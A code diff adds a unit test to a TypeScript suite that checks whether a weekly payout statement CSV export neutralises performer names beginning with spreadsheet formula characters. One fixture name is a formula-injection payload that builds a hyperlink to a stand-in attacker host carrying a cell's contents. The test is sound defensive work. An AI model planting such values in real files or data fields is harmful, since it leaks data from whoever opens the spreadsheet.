@@ -36,4 +36,16 @@ describe('payout formatting (it-IT, Europe/Rome)', () => {
     expect(lines).toContain('Riportato alla settimana successiva;;;27,50');
     expect(lines).toContain('Stato;Riportato alla settimana successiva');
   });
+
+  it('neutralises a name she chose that a spreadsheet would read as a formula', () => {
+    const empty = { count: 0, grossUnits: 0, shareCents: 0 };
+    const statement: StatementDetail = {
+      performerId: '2b7c4d1e-8f7a-4e63-9a51-5a4c1b2d3e4f', performerName: '=HYPERLINK("http://evil.example/?"&A1;"Giulia")', weekStart: '2026-11-16', periodEnd: '2026-11-22T22:59:59.999Z', payoutDate: '2026-11-23T23:00:00.000Z',
+      sources: { session: empty, message: empty, photo: empty }, grossUnits: 0, sharePercent: 55, shareCents: 0, paidCents: 0, scheduledCents: 0, unpaidCents: 0, carriedOverCents: 0, carryReason: null,
+      status: 'open', payoutIds: [], lines: [], payouts: [],
+    };
+    const lines = statementCsv(statement).replace('\uFEFF', '').split('\r\n');
+    expect(lines[0]).toBe('Estratto conto settimanale;"\'=HYPERLINK(""http://evil.example/?""&A1;""Giulia"")"');
+    for (const name of ['+1', '-1+1', '@SUM(A1)', '\t=1']) expect(statementCsv({ ...statement, performerName: name }).replace('\uFEFF', '').split('\r\n')[0]).toBe(`Estratto conto settimanale;'${name}`);
+  });
 });
